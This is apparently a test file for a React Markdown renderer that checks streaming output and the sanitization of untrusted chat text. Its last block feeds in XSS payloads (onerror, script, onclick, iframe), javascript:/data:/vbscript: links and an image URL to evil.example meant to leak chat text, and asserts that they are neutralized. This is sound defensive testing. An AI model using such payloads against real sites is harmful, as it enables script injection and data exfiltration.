import { render } from "@testing-library/react";
import { describe, expect, test } from "vitest";
import { Markdown } from "../../../app/markdown/Markdown.tsx";
import { parse } from "../../../app/markdown/parse.ts";
import { seeded } from "./seeded.ts";

const LONG = `# Title

A paragraph with **bold**, *italic*, \`code\` and a [link](https://example.com).

- one
- two
  - nested

  with a second paragraph

1. first
2. second

| a | b |
|---|--:|
| 1 | 2 |

\`\`\`ts
const x = 1;

const y = 2;
\`\`\`

> a quote
> of two lines

Setext
------

Last words, ~~gone~~ and \`half`;

const PIECES = [
  ...["- a **b**\n", "- [ ] task\n", "  - nested `c`\n", "1. one\n2. two\n", "* star\n", "   - three\n", "-"],
  ...["\n", "\n\n", "para *em* text\n", "more text", "`", "**", "_", "\\\n", "  \n", "a\r\nb\r\n", "# Heading\n", "#"],
  ...["| a | b |\n", "|---|--:|\n", "| 1 | **2** |\n", "row | without\n", "> quote\n", "---\n", "<div>\n"],
  ...[
    "```ts\n",
    "```\n",
    "~~~\n",
    "const x = 1;\n",
    "[l](http://x.y",
    ")\n",
    "[r]: http://a.b\n",
    "[r] ",
    "[^1]: note\n",
  ],
];

const WORDS = [
  ...["The Moon ", "pulls on ", "all. ", "word", "É tü ", "“So” ", "2~3 ", "1986. It ", "- ", "# ", "  ", "\n", "\n\n"],
  ...[
    "**bold** ",
    "an *em* ",
    "`code x` ",
    "~~gone~~ ",
    "[link](http://a.b) ",
    "**",
    "*",
    "_",
    "`",
    "[",
    "](http://x.y)",
  ],
  ...[
    "a | b",
    "--|--\n",
    "===\n",
    "---\n",
    "  \n",
    "\\\n",
    "\\* ",
    "<b>",
    "</b> ",
    "&amp; ",
    "www.a.b ",
    "http://a.b/c ",
  ],
];

/** The HTML without what distinguishes the anchors of two messages. */
function htmlOf(container: Element): string {
  return container.innerHTML.replace(/\b(footnote|reference)-_r_\w+_-/g, "$1-");
}

function html(text: string, isStreaming = false): string {
  const { container, unmount } = render(<Markdown text={text} isStreaming={isStreaming} />);
  const shown = htmlOf(container);
  unmount();
  return shown;
}

describe("a streaming text", () => {
  test.each([1, 3, 7, 50])("in steps of %i characters ends as the same HTML as the finished text", (step) => {
    const { container, rerender } = render(<Markdown text="" isStreaming />);
    for (let end = 0; end < LONG.length; end += step) rerender(<Markdown text={LONG.slice(0, end)} isStreaming />);
    rerender(<Markdown text={LONG} isStreaming={false} />);
    expect(htmlOf(container)).toBe(html(LONG));
  });

  test("keeps its settled blocks", () => {
    const before = parse(LONG.slice(0, 200), true);
    const after = parse(LONG.slice(0, 260), true, before);
    expect(before.settled.length).toBeGreaterThan(2);
    for (const [index, block] of before.settled.entries()) expect(after.settled[index]).toBe(block);
  });

  test.each([
    ["a word that started like a heading", "One\n#", "two"],
    ["a paragraph that looked like a table", "One\na | b\n--", "- | --- | ---\n"],
    ["a thematic break that started like a list item", "- one\n-", "--\nmore"],
    ["a list that becomes loose", "- one\n- two\n- three\n", "\n- four\n"],
    ["a footnote that is defined later", "One[^1]\n\nTwo\n", "\n[^1]: three\n"],
  ])("may turn out to be %s", (_, begun, more) => {
    const { container, rerender } = render(<Markdown text={begun} isStreaming />);
    rerender(<Markdown text={begun + more} isStreaming />);
    rerender(<Markdown text={begun + more} isStreaming={false} />);
    expect(htmlOf(container)).toBe(html(begun + more));
  });

  test.each([
    ["any syntax", PIECES],
    ["words, links and emphasis", WORDS],
  ])("of random %s ends as the same HTML as the finished text", (_, made) => {
    const random = seeded(7);
    for (let round = 0; round < 20; round++) {
      const pieces = Array.from({ length: 3 + random(12) }, () =>
        (made[random(made.length)] ?? "").repeat(1 + random(3)),
      );
      const text = pieces.join("");
      const step = 1 + random(9);
      const { container, rerender, unmount } = render(<Markdown text="" isStreaming />);
      for (let end = 0; end < text.length; end += step) rerender(<Markdown text={text.slice(0, end)} isStreaming />);
      rerender(<Markdown text={text} isStreaming={false} />);
      expect(htmlOf(container), JSON.stringify(text)).toBe(html(text));
      unmount();
    }
  });

  test("is parsed from the start if another text replaces it", () => {
    const before = parse(LONG, true);
    expect(before.settled.length).toBeGreaterThan(2);
    const { settled, open, settledText } = parse("Something else\n\nentirely\n", true, before);
    expect([settled.length, open.length, settledText]).toEqual([1, 1, "Something else\n\n"]);
  });

  test("shows unclosed emphasis, code and links as if they were closed", () => {
    expect(html("It is **very", true)).toContain("<strong>very</strong>");
    expect(html("Call `fetch(", true)).toContain(">fetch(</code>");
    expect(html("See [the docs](https://exam", true)).not.toContain("](");
  });

  test("shows the row of a table when it is complete, and a table when its second line is", () => {
    const shown = (text: string) => {
      const { container, unmount } = render(<Markdown text={text} isStreaming />);
      const found = [container.querySelectorAll("tr").length, container.textContent];
      unmount();
      return found;
    };
    expect(shown("So:\n\n| a | b")).toEqual([0, "So:"]);
    expect(shown("So:\n\n| a | b |\n")).toEqual([0, "So:"]);
    expect(shown("So:\n\n| a | b |\n|--")).toEqual([0, "So:"]);
    expect(shown("So:\n\n| a | b |\n|---|---|\n")).toEqual([1, "So:ab"]);
    expect(shown("So:\n\n| a | b |\n|---|---|\n| c | d")).toEqual([1, "So:ab"]);
    expect(shown("So:\n\n| a | b |\n|---|---|\n| c | d |\n| e")).toEqual([2, "So:abcd"]);
    expect(shown("So:\n\n| a | b |\nmore")).toEqual([0, "So:| a | b |\nmore"]);
    expect(html("| a | b", false)).toContain("| a | b");
  });

  test("shows an unclosed code block as code", () => {
    expect(html("Look:\n\n```ts\nconst x", true)).toContain("const x");
    expect(html("Look:\n\n```ts\nconst x", true)).toContain("<figure");
  });

  test("resolves link definitions at its end when it is finished", () => {
    const text = "See [the docs] for more.\n\nAnd on.\n\n[the docs]: https://example.com";
    expect(html(text)).toContain('href="https://example.com"');
  });
});

test("links and images use the first definition of their name, wherever it is", () => {
  const text = "[one][a], [two][b], ![three][a]\n\n[a]: /first\n[a]: /second\n\n- in a list\n\n  [b]: /nested\n";
  const { container } = render(<Markdown text={text} isStreaming={false} />);
  const links = [...container.querySelectorAll("a")].map((link) => `${link.textContent} ${link.getAttribute("href")}`);
  expect(links).toEqual(["one /first", "two /nested", "three /first"]);
});

describe("untrusted text", () => {
  test.each([
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "text <b onclick=alert(1)>bold</b>",
    "<iframe src=https://evil.example></iframe>",
  ])("is not interpreted as HTML: %s", (source) => {
    const { container } = render(<Markdown text={source} isStreaming={false} />);
    expect(container.querySelector("img, script, b, iframe")).toBeNull();
    expect(container.textContent).toContain("<");
  });

  test.each(["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "vbscript:x"])(
    "does not link to unsafe URLs: %s",
    (href) => {
      const { container } = render(<Markdown text={`[click](${href})`} isStreaming={false} />);
      expect(container.querySelector("a")?.hasAttribute("href")).toBe(false);
    },
  );

  test("loads no image, because the URL could carry text of the chat to another host", () => {
    const { container } = render(<Markdown text="![a map](https://evil.example/?q=secret)" isStreaming={false} />);
    expect(container.querySelector("img")).toBeNull();
    expect(container.querySelector("a")?.textContent).toBe("a map");
  });
});
